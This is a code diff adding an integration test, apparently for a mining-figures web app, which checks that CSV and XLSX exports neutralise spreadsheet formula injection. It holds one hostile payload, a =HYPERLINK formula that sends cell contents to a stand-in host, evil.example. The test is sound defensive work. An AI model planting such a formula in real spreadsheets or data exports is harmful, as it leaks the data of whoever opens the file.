@@ -146,6 +146,39 @@ class ImportIT {
                 .toList();
     }
 
+    /**
+     * A mine named like a spreadsheet formula (any import may create one) is exported as text: the figures CSV writes
+     * it behind an apostrophe, so that Excel or LibreOffice do not evaluate it; the XLSX holds it as a string cell.
+     */
+    @Test
+    void a_mine_named_like_a_formula_is_exported_as_text_not_as_a_formula() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")";
+        String csvLine = "\"" + formula.replace("\"", "\"\"") + "\",2031-Q1,tonnes_milled,,1000,t";
+        java.net.http.HttpResponse<String> imported = ApiClient.as(base, "admin", "minewatch").send("POST",
+                "/api/imports?createMines=true&company=Fortuna%20Silver%20Mines&source=formula%20test", "text/csv",
+                "mine,period,measure,metal,value,unit\n" + csvLine + "\n");
+        assertThat(imported.statusCode()).as(imported.body()).isEqualTo(201);
+
+        browser = Browser.start("en");
+        Browser.signIn(browser, base, "admin", "minewatch");
+        browser.get(base + "figures.xhtml");
+        Browser.waiting(browser).until(ExpectedConditions.visibilityOfElementLocated(By.id("figures:table")));
+        Browser.guardAjax(browser, By.cssSelector("#figures\\:table tbody"), () -> Browser.choose(browser, "figures:period", "2031-Q1"));
+
+        java.nio.file.Files.deleteIfExists(Browser.DOWNLOADS.resolve("production-figures.csv"));
+        browser.findElement(By.id("figures:exportCsv")).click();
+        String csv = Browser.downloaded(browser, "production-figures.csv");
+        assertThat(csv.lines().skip(1)).singleElement().asString()
+                .startsWith("\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"click\"\")\",\"2031-Q1\"");
+
+        Browser.Download xlsx = Browser.submitForDownload(browser, "figures", "figures:exportXlsx");
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx.content()))) {
+            var cell = workbook.getSheetAt(0).getRow(1).getCell(0);
+            assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+            assertThat(cell.getStringCellValue()).isEqualTo(formula);
+        }
+    }
+
     @Test
     void a_file_over_the_upload_limit_is_refused_with_the_too_large_message_and_the_page_stays() throws Exception {
         // 3 MB of release-like lines, over the 2 MB an upload may have
